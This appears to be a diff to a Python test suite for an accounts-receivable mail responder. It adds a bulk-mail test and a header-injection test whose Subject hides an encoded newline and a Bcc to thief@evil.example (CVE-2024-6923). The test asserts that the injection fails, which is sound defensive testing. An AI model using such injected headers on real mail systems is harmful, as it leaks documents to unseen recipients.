@@ -293,8 +293,16 @@ def test_mail_that_must_never_be_answered_gets_no_reply_and_keeps_its_review_ite
             Auto_Submitted="auto-replied",
         ),
     )
+    run(
+        svc,
+        question(
+            "Please send a copy of invoice INV-70002.",
+            mid="<q3@acme-mfg.example>",
+            Precedence="bulk",
+        ),
+    )
     assert smtp_sink.messages() == []
-    # the first still asks a person for the copy; the auto-reply is ignored altogether
+    # the first still asks a person for the copy; the auto-reply and the bulk mail are ignored
     assert [kind for kind, _ in open_items(svc)] == ["invoice_copy_request"]
 
 
@@ -354,3 +362,19 @@ def test_a_contacts_copy_request_naming_no_invoice_waits_and_reveals_nothing(svc
     assert reply["Subject"] == "Your message to accounts receivable"
     assert "Acme" not in body(reply) and list(reply.iter_attachments()) == []
     assert [kind for kind, _ in open_items(svc)] == ["invoice_copy_request"]
+
+
+def test_a_hostile_subject_cannot_add_a_recipient_to_the_answer(svc, smtp_sink):
+    # Given a contact's question whose Subject hides an encoded newline and a Bcc (CVE-2024-6923)
+    raw = question(
+        "Could you send us a copy of invoice INV-70002?",
+        subject="=?utf-8?q?Copy=0ABcc:_thief@evil.example?=",
+    )
+    run(svc, raw)
+    # Then the answer went to the contact alone, and its headers name nobody else
+    (sent,) = smtp_sink.messages()
+    assert sent.rcpt_tos == (ACME,)
+    reply = message_from_bytes(sent.raw, policy=policy.default)
+    assert reply["To"] == ACME
+    assert reply["Bcc"] is None and reply["Cc"] is None
+    assert b"\nBcc:" not in sent.raw
